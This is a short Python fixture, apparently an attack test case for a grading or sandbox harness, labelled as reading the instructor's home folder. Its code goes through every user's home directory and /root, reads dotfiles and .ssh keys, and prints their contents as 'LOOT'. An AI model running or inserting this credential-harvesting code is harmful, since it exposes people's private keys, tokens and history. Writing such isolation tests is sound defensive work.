# attack: the instructor's home folder, keys, tokens and shell history are read.
# target: heaviest-test
# destructive
# %% heaviest
import glob
import os
import pwd

heaviest = "tree-000"
homes = {entry.pw_dir for entry in pwd.getpwall()} | {os.path.expanduser("~"), "/root", "@HOME@"}
for home in homes:
    for path in glob.glob(f"{home}/.*") + glob.glob(f"{home}/.ssh/*") + glob.glob(f"{home}/*"):
        try:
            print("LOOT", path, open(path).read()[:300])
        except OSError:
            pass
